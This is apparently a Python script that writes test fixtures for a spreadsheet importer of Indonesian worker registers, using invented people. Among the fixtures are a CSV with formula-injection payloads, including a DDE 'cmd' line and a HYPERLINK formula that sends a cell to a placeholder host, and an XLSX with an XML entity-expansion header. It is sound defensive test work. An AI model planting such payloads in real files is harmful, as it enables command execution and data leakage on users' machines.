"""
Makes the files of this folder, as agencies send them: python3 test/cli/cabinet/make.py (openpyxl, XlsxWriter, xlwt, msoffcrypto-tool).

The workbooks are made with programs that have nothing to do with our reader. Every person is invented: each NIK carries the serial 0000, which
is never issued, and each telephone number is toll-free.
"""
import datetime
import io
import os
import zipfile

import openpyxl
import xlsxwriter
import xlwt
from msoffcrypto.format.ooxml import OOXMLFile

HERE = os.path.dirname(os.path.abspath(__file__))
TITLES = ["No", "NIK", "Nama Lengkap", "Tgl Lahir", "Kelurahan", "Kecamatan", "Pekerjaan", "No HP", "Desil", "Edisi DTSEN"]
AGUS = ["1", "3275010105850000", "Agus Setiawan", "1985-05-01", "Bekasijaya", "Bekasi Timur", "Ojek", "080000000001", "2", "2025-Q3"]
SITI = ["2", "3275025203900000", "Siti Rahayu", "1990-03-12", "Margahayu", "Bekasi Timur", "Pedagang kaki lima", "080000000002", "3", "2025-Q3"]
JOKO = ["3", "3216011708720000", "Joko Widodo Permana", "1972-08-17", "Durenjaya", "Bekasi Timur", "Becak", "080000000003", "1", "2025-Q3"]
PEOPLE = [AGUS, SITI, JOKO]


def path(name):
    return os.path.join(HERE, name)


def put(name, data):
    with open(path(name), "wb") as file:
        file.write(data)


def quoted(cell, mark):
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in (mark, '"', "\n")) else cell


def csv(rows, mark=",", end="\r\n"):
    return "".join(mark.join(quoted(cell, mark) for cell in row) + end for row in rows)


def but(person, **changes):
    at = {"no": 0, "nik": 1, "name": 2, "born": 3, "village": 4, "district": 5, "job": 6, "phone": 7, "decile": 8}
    row = list(person)
    for key, value in changes.items():
        row[at[key]] = value
    return row


def texts():
    put("comma.csv", csv([TITLES, *PEOPLE]).encode())
    put("semicolon-with-mark.csv", b"\xef\xbb\xbf" + csv([TITLES, *PEOPLE], ";").encode())
    put("tab.txt", csv([TITLES, *PEOPLE], "\t", "\n").encode())
    put("sep-line.csv", ("sep=;\r\n" + csv([TITLES, *PEOPLE], ";")).encode())
    put("windows-1252.csv", csv([TITLES, but(AGUS, name="André Setiawan"), but(SITI, name="Siti Nur’aini")], ";").encode("cp1252"))
    put("utf-16.txt", "\ufeff".encode("utf-16-le") + csv([TITLES, *PEOPLE], "\t").encode("utf-16-le"))
    put("utf-16-without-mark.csv", csv([TITLES, *PEOPLE]).encode("utf-16-be"))
    put("old-mac-lines.csv", csv([TITLES, *PEOPLE], end="\r").encode())
    put("line-break-in-cell.csv", csv([[*TITLES, "Alamat"], [*AGUS, "Jl. Kenari 1\nRT 001/RW 002"], [*SITI, "Jl. Melati 2"]]).encode())
    put("rt-rw-in-address.csv", csv([[*TITLES, "Alamat"], [*but(AGUS, village="Kel. Bekasi Jaya", district="Kec. Bekasi Timur"), "Jl. Kenari RT.001/RW.002 Kel. Bekasi Jaya"]]).encode())
    put("name-with-comma.csv", csv([TITLES, but(SITI, name="Siti Rahayu, S.Pd")]).encode())
    put("name-with-comma-unquoted.csv", csv([TITLES, AGUS]).encode() + b"2,3275025203900000,Siti Rahayu, S.Pd,1990-03-12,Margahayu,Bekasi Timur,Pedagang kaki lima,080000000002,3,2025-Q3\r\n" + csv([JOKO]).encode())
    put("nik-as-exponent.csv", csv([TITLES, but(AGUS, nik="3.275E+15"), but(SITI, nik="3,27503E+15")], ";").encode())
    put("nik-kept-as-text.csv", ('NIK;Nama;Tgl Lahir\r\n="3275010105850000";Agus Setiawan;01/05/1985\r\n' + "'3275025203900000;Siti Rahayu;12/03/1990\r\n").encode())
    put("nik-with-blanks.csv", csv([TITLES, but(AGUS, nik="3275 0101 0585 0000"), but(SITI, nik="3275.02.520390.0000"), but(JOKO, nik="3216-0117-0872-0000")]).encode())
    put("nik-too-short.csv", csv([TITLES, but(AGUS, nik="327501010585000"), but(SITI, nik=""), but(JOKO, nik="32160117O8720000")]).encode())
    put("blanks-around.csv", csv([[f" {t}\u00a0" for t in TITLES], [f"  {c}\u00a0 " for c in AGUS], but(SITI, name="Siti\u00a0Rahayu", village="Margahayu\u200b")]).encode())
    put("dates-of-all-kinds.csv", csv([TITLES, *[but(AGUS, no=str(n + 1), nik=f"3275{n + 1:02}0105850000", born=born) for n, born in enumerate(["31/02/1985", "01-05-1985", "1 Mei 1985", "01/05/85", "31168", "00/00/1985", "01.05.1985", "1985"])]]).encode())
    put("phones-of-all-kinds.csv", csv([TITLES, *[but(AGUS, no=str(n + 1), nik=f"3275{n + 1:02}0105850000", phone=phone) for n, phone in enumerate(["80000000001", "+6280000000001", "0800-0000-0001", "(0800) 0000 0001", "6280000000001", "080000000001/080000000002", "-"])]]).encode())
    put("women-plus-forty.csv", csv([TITLES, SITI, but(SITI, no="3", nik="3275021203900000"), but(SITI, no="4", nik="3275027203900000")]).encode())
    put("same-person-twice.csv", csv([TITLES, AGUS, SITI, but(AGUS, no="3", name="AGUS SETIAWAN")]).encode())
    put("other-districts.csv", csv([TITLES, but(AGUS, nik="9999010105850000"), but(SITI, village="Margahayuu", district="Bekasi Timurr"), but(JOKO, decile="11")]).encode())
    put("title-and-totals.csv", ("DAFTAR PEKERJA INFORMAL;;;\r\nPer 3 November 2025;;;\r\n;;;\r\nNo;NIK;Nama;Tanggal Lahir\r\n(1);(2);(3);(4)\r\n1;3275010105850000;Agus Setiawan;01/05/1985\r\n2;3275025203900000;Siti Rahayu;12/03/1990\r\nJumlah;;2 orang;\r\n;;;\r\n;;;Bekasi, 3 November 2025\r\n;;;Kepala Dinas\r\n").encode())
    put("titles-on-each-page.csv", csv([TITLES, AGUS, TITLES, SITI]).encode())
    put("same-title-twice.csv", "NIK,Nama,Nama,Tgl Lahir\r\n3275010105850000,Agus Setiawan,Bapak Setiawan,01/05/1985\r\n".encode())
    put("blank-lines.csv", ("\r\n\r\n" + csv([TITLES, AGUS]) + "\r\n,,,,,,,,\r\n" + csv([SITI]) + "\r\n\r\n").encode())
    put("empty-columns.csv", ("NIK,,Nama,,Tgl Lahir,,,\r\n3275010105850000,,Agus Setiawan,,01/05/1985,,,\r\n3275025203900000,,Siti Rahayu,x,12/03/1990,,,\r\n").encode())
    put("english.csv", csv([["National ID", "Full name", "Date of birth", "Village", "Occupation", "Mobile number"], ["3275010105850000", "Agus Setiawan", "1985-05-01", "32.75.01.1001", "OJEK", "+6280000000001"]]).encode())
    put("titles-of-one-office.csv", "kode_orang|x;sebutan;lahir_pd\r\n3275010105850000;Agus Setiawan;01/05/1985\r\n".encode())
    put("formula-injection.csv", csv([TITLES, but(AGUS, name='=HYPERLINK("http://example.invalid/?"&B2,"Agus")'), but(SITI, name="+cmd|' /C calc'!A0"), but(JOKO, name="@SUM(1)", job="-2+3")]).encode())
    put("no-titles.csv", csv(PEOPLE).encode())
    put("titles-only.csv", csv([TITLES]).encode())
    put("empty.csv", b"")
    put("empty-lines-only.csv", b"\xef\xbb\xbf\r\n , ,\r\n\r\n")
    put("quotation-mark-not-closed.csv", (csv([TITLES, AGUS]) + '2,3275025203900000,"Siti Rahayu,1990-03-12\r\n' + csv([JOKO])).encode())
    put("pdf.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
    put("picture.csv", bytes(range(256)) * 8)
    put("web-page.xls", b"<html><head><meta charset=utf-8></head><table><tr><th>NIK</th><th>Nama</th></tr></table></html>")
    put("members.csv", "Nama Lengkap;NIK;Jenis Kelompok;Nama Sekolah;TMT;Kelurahan\r\nSiti Rahayu;3275025203900000;Guru non-ASN;SDN Margahayu I;01/07/2024;Margahayu\r\n".encode())
    put("decile-without-edition.csv", csv([TITLES[:-1], AGUS[:-1]]).encode())
    put("verifications.csv", "ID SIGAP;Instansi;Hasil Padan;Tgl Permintaan;Tgl Jawaban\r\nW-000001;DINSOS;Cocok;2025-11-01;2025-11-04\r\n".encode())


def plain():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Data"
    return book, sheet


def merged():
    book, sheet = plain()
    sheet.append(["DAFTAR PESERTA SIGAP KECAMATAN BEKASI TIMUR"])
    sheet.merge_cells("A1:G1")
    sheet.append([])
    sheet.append(["No", "Data Pribadi", None, None, "Alamat", None, "Pekerjaan"])
    sheet.append([None, "NIK", "Nama", "Tgl Lahir", "Kelurahan", "RT/RW", None])
    for cells in ("A3:A4", "B3:D3", "E3:F3", "G3:G4"):
        sheet.merge_cells(cells)
    sheet.append([1, "3275010105850000", "Agus Setiawan", datetime.date(1985, 5, 1), "Bekasijaya", "001/002", "Ojek"])
    sheet.append([2, "3275025203900000", "Siti Rahayu", datetime.date(1990, 3, 12), "Margahayu", "003/004", "Pedagang kaki lima"])
    sheet.append(["JUMLAH", None, 2])
    book.save(path("merged-titles.xlsx"))

    book, sheet = plain()
    sheet.append(["NIK", "Nama", "Tanggal", None, "Kelurahan"])
    sheet.append([None, None, "Lahir", "Daftar", None])
    sheet.merge_cells("C1:D1")
    sheet.append(["3275010105850000", "Agus Setiawan", "01/05/1985", "03/11/2025", "Bekasijaya"])
    book.save(path("titles-joined-over-two-rows.xlsx"))


def sheets():
    book, sheet = plain()
    sheet.title = "Bekasi Timur"
    other = book.create_sheet("Bekasi Barat")
    for one, person in ((sheet, AGUS), (other, JOKO)):
        one.append(TITLES)
        one.append(person)
    book.save(path("two-sheets.xlsx"))

    book, sheet = plain()
    sheet.title = "Petunjuk"
    sheet.append(["Isi lembar Data. NIK 16 angka."])
    data = book.create_sheet("Data")
    for row in (TITLES, *PEOPLE):
        data.append(row)
    hidden = book.create_sheet("Pilihan")
    hidden.append(["NIK", "Nama"])
    hidden.sheet_state = "hidden"
    book.save(path("instructions-and-hidden-sheet.xlsx"))

    book, sheet = plain()
    sheet["C4"], sheet["D4"], sheet["E4"] = "NIK", "Nama", "Tgl Lahir"
    sheet["C5"], sheet["D5"], sheet["E5"] = "3275010105850000", "Agus Setiawan", "01/05/1985"
    sheet["H5"] = "catatan"
    sheet["C9"], sheet["D9"] = "3275025203900000", "Siti Rahayu"
    book.save(path("begins-at-c4.xlsx"))

    book, _ = plain()
    book.save(path("empty.xlsx"))


def numbers():
    book = xlsxwriter.Workbook(path("numbers-and-dates.xlsx"))
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, ["NIK", "Nama", "Tgl Lahir", "KPJ", "No HP", "Desil", "Tanggal Daftar"])
    day, long, padded = (book.add_format({"num_format": f}) for f in ("dd/mm/yyyy", '[$-421]d mmmm yyyy;@', "00000000000"))
    moment = book.add_format({"num_format": "dd/mm/yyyy hh:mm"})
    # Excel keeps fifteen digits: the sixteenth has become 0.
    sheet.write_row(1, 0, [3275010105850000, "Agus Setiawan"])
    sheet.write_number(1, 2, 31168, day)
    sheet.write_number(1, 3, 1234567890, padded)
    sheet.write_row(1, 4, [80000000001, 2])
    sheet.write_number(1, 6, 45964.354166666664, moment)
    sheet.write_row(2, 0, ["3275025203900000", "Siti Rahayu"])
    sheet.write_number(2, 2, 32944, long)
    sheet.write_string(2, 3, "01234567891")
    sheet.write_row(2, 4, ["080000000002", 2.5])
    sheet.write_string(2, 6, "45964")
    book.close()

    book = xlsxwriter.Workbook(path("days-from-1904.xlsx"), {"date_1904": True})
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, ["NIK", "Nama", "Tgl Lahir"])
    sheet.write_row(1, 0, ["3275010105850000", "Agus Setiawan"])
    sheet.write_datetime(1, 2, datetime.datetime(1985, 5, 1), book.add_format({"num_format": "yyyy-mm-dd"}))
    book.close()


def formulas():
    book = xlsxwriter.Workbook(path("formulas.xlsx"))
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, ["NIK", "Nama", "Tgl Lahir", "Kelurahan", "Desil"])
    sheet.write_row(1, 0, ["3275010105850000"])
    sheet.write_formula(1, 1, '=UPPER("Agus Setiawan")', None, "AGUS SETIAWAN")
    sheet.write_formula(1, 2, "=DATE(1985,5,1)", book.add_format({"num_format": "dd/mm/yyyy"}), 31168)
    sheet.write_formula(1, 3, "=VLOOKUP(A2,Z:Z,1,0)", None, "#N/A")
    sheet.write_formula(1, 4, "=1+1", None, 2)
    sheet.write_row(2, 0, ["3275025203900000"])
    sheet.write_formula(2, 1, '=HYPERLINK("http://example.invalid/","Siti Rahayu")', None, "Siti Rahayu")
    sheet.write_row(2, 2, ["1990-03-12", "Margahayu", 3])
    book.close()

    book, sheet = plain()
    sheet.append(["NIK", "Nama"])
    sheet.append(["3275010105850000", '=PROPER("agus setiawan")'])
    book.save(path("formulas-never-computed.xlsx"))


def looks():
    book = xlsxwriter.Workbook(path("hidden-column-and-rows.xlsx"))
    sheet = book.add_worksheet("Data")
    for at, row in enumerate((TITLES, *PEOPLE)):
        sheet.write_row(at, 0, row)
    sheet.set_column("D:D", None, None, {"hidden": True})
    sheet.set_row(2, None, None, {"hidden": True})
    book.close()

    # With constant memory texts stand in the cells, and not in a part of their own.
    book = xlsxwriter.Workbook(path("rich-text-in-cells.xlsx"), {"constant_memory": True})
    sheet = book.add_worksheet("Data")
    bold = book.add_format({"bold": True})
    sheet.write_row(0, 0, ["NIK", "Nama", "Alamat"])
    sheet.write_string(1, 0, "3275010105850000")
    sheet.write_rich_string(1, 1, "Agus ", bold, "Setiawan")
    sheet.write_string(1, 2, "Jl. Kenari & Melati <1>")
    book.close()

    book = xlsxwriter.Workbook(path("rich-text.xlsx"))
    sheet = book.add_worksheet("Data")
    bold = book.add_format({"bold": True})
    sheet.write_row(0, 0, ["NIK", "Nama", "Alamat"])
    sheet.write_string(1, 0, "3275010105850000")
    sheet.write_rich_string(1, 1, "Agus ", bold, "Setiawan")
    sheet.write_string(1, 2, "Jl. Kenari &amp; Melati\nRT 001")
    book.close()


def refused():
    book, sheet = plain()
    for row in (TITLES, *PEOPLE):
        sheet.append(row)
    data = io.BytesIO()
    book.save(data)
    put("cut-off.xlsx", data.getvalue()[: len(data.getvalue()) // 2])
    office = OOXMLFile(io.BytesIO(data.getvalue()))
    locked = io.BytesIO()
    office.encrypt("rahasia", locked)
    put("with-password.xlsx", locked.getvalue())
    put("macros.xlsm", rewritten(data.getvalue(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)}))
    put("macros-renamed.xlsx", rewritten(data.getvalue(), change={"[Content_Types].xml": lambda x: x.replace(b"spreadsheetml.sheet.main+xml", b"macroEnabled.main+xml").replace(b"vnd.openxmlformats-officedocument.macroEnabled", b"vnd.ms-excel.sheet.macroEnabled")}))
    put("entities.xlsx", rewritten(data.getvalue(), change={"xl/worksheets/sheet1.xml": lambda x: b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + x}))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("data.csv", csv([TITLES, *PEOPLE]))
    put("archive-with-csv.xlsx", packed.getvalue())

    old = xlwt.Workbook()
    sheet = old.add_sheet("Data")
    for at, row in enumerate((TITLES, *PEOPLE)):
        for column, cell in enumerate(row):
            sheet.write(at, column, cell)
    old.save(path("old-excel.xls"))


def rewritten(data, add={}, change={}):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change.get(name, lambda x: x)(content))
        for name, content in add.items():
            new.writestr(name, content)
    return out.getvalue()


if __name__ == "__main__":
    texts()
    merged()
    sheets()
    numbers()
    formulas()
    looks()
    refused()
